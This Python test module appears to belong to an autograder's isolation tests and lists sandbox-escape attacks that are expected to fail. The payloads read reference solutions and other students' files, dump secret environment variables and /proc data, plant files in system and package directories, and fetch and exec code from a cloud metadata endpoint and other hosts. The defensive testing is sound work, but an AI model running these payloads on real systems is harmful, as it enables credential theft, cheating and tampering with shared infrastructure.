"""Attempts to read, write or call what lies outside."""

from __future__ import annotations

from .attack import ROOT, SETUP, WRONG, Attack

PLACES = f"""
PLACES = ["/", "/tmp", "/var/tmp", "/home", "/root", "/etc", "/usr/lib", "/dev", "/dev/shm", "/run",
          {str(ROOT)!r}, {str(ROOT / "reference/slope")!r}, {str(ROOT / "submitted")!r},
          {str(ROOT / "autograder/worker")!r}, {str(ROOT / "graded")!r}, "..", "../.."]
"""

ATTACKS = (
    *(
        Attack(f"read-{name}", SETUP + f"exec(open({str(path)!r}).read())\n", 0.0)
        for name, path in {
            "reference": ROOT / "reference/slope/slope.py",
            "accepted": ROOT / "reference/slope/accepted/plain_no_grad.py",
            "spec": ROOT / "reference/slope/exercise.py",
            "reference-from-below": "../../../../../../srv/course/reference/slope/slope.py",
            "through-proc": f"/proc/1/root{ROOT}/reference/slope/slope.py",
            "through-old-root": f"/old{ROOT}/reference/slope/slope.py",
        }.items()
    ),
    Attack("read-any-solution", SETUP + """
import os
for folder, _, files in os.walk("/"):
    for name in files:
        if name.endswith((".py", ".ipynb", ".trace", ".jsonl", ".db")) and "site-packages" not in folder:
            try: text = open(os.path.join(folder, name), errors="replace").read()
            except OSError: continue
            if "def train_model" in text and "lr" in text and "def criterion" in text:
                try: exec(text)
                except Exception: continue
""", 0.0),
    Attack("read-other-students", SETUP + PLACES + """
import glob, os
for place in PLACES:
    for path in glob.glob(place + "/*/slope/slope.py") + glob.glob(place + "/*.py"):
        try: exec(open(path).read())
        except BaseException: pass
""", 0.0),
    Attack("read-environment", SETUP + """
import os
raise RuntimeError(" ".join(f"{k}={v}" for k, v in os.environ.items() if "SECRET" in k))
""", 0.0),
    Attack("read-processes", SETUP + """
import glob, os
for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cwd/*") + glob.glob("/proc/self/fd/*"):
    try: exec(open(path).read())
    except Exception: pass
""", 0.0),
    Attack("write-everywhere", WRONG + PLACES + """
import os, shutil
for place in PLACES:
    for name in ("planted-by-student.py", "sitecustomize.py", "conftest.py"):
        try: open(os.path.join(place, name), "w").write("raise SystemExit")
        except OSError: pass
    for act in (lambda p: os.mkdir(p), lambda p: os.symlink("/etc", p), lambda p: os.mkfifo(p)):
        try: act(os.path.join(place, "planted-by-student"))
        except OSError: pass
""", 0.0),
    Attack("write-packages", WRONG + """
import os, torch, msgspec, autograder.worker.observe as observe
for module in (torch, msgspec, os, observe):
    for path in (module.__file__, os.path.join(os.path.dirname(module.__file__), "planted-by-student.py")):
        for act in (lambda p: open(p, "a").write("#"), os.unlink, lambda p: os.rename(p, p + "x"),
                    lambda p: os.chmod(p, 0o777), lambda p: os.truncate(p, 0), lambda p: os.link(p, p + "y")):
            try: act(path)
            except OSError: pass
""", 0.0),
    Attack("write-left-for-the-next", WRONG + """
import os, tempfile
for place in (".", "/tmp", tempfile.gettempdir(), os.environ["HOME"], os.environ["MPLCONFIGDIR"], "/dev/shm"):
    try: open(os.path.join(place, "planted-by-student"), "w").write("x")
    except OSError: pass
""", 0.0),
    Attack("write-found-from-before", WRONG + """
import os
for folder, _, files in os.walk("/"):
    if "planted-by-student" in files:
        from autograder.worker.entry import WARM_JOB
        raise SystemExit(1)
""", 0.0),
    Attack("network-fetch", SETUP + """
import socket, urllib.request
socket.setdefaulttimeout(1)
for target in ("http://127.0.0.1:8000/", "http://169.254.169.254/latest/", "http://pypi.org/"):
    try: exec(urllib.request.urlopen(target, timeout=1).read())
    except Exception: pass
""", 0.0),
    Attack("network-serve", WRONG + """
import socket
for family in (socket.AF_INET, socket.AF_INET6, socket.AF_UNIX, socket.AF_NETLINK, socket.AF_VSOCK):
    try: socket.socket(family).bind(("", 0))
    except Exception: pass
""", 0.0),
)  # fmt: skip
